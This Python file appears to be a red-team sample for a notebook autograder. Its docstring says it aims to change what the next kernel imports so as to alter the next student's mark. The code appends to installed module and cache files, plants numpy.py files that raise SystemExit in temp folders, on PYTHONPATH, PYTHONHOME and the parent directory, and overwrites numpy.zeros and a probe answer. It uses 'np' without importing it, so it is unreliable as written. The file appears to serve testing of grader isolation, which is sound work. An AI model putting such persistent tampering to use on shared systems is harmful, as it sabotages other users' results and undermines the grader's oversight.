"""Attack: changes what the next kernel would import: inside, numpy, the standard library, caches.
Wants: the next student's mark.
Honest mark: 22
"""

# %% own
import importlib, os, sys
import inside, inside.probe, IPython, json

for module in (inside, inside.probe, np, IPython, json, os):
    for name in (
        module.__file__,
        os.path.join(os.path.dirname(module.__file__), "__pycache__", "probe.cpython-311.pyc"),
        os.path.join(os.path.dirname(module.__file__), "evil.py"),
    ):
        try:
            with open(name, "ab") as file:
                file.write(b"\n")
        except OSError:
            pass
for folder in (
    "/tmp/convgrade-attack",
    "/dev/shm/convgrade-attack",
    "/var/tmp/convgrade-attack",
    os.environ["PYTHONPATH"],
    os.environ["PYTHONHOME"],
    "..",
):
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "numpy.py"), "w").write("raise SystemExit")
    except OSError:
        pass
inside.probe.answer = None
np.zeros = None
import builtins

np.zeros = __import__("numpy").empty
np.zeros = lambda shape, dtype=float, **k: np.full(shape, 0, dtype)
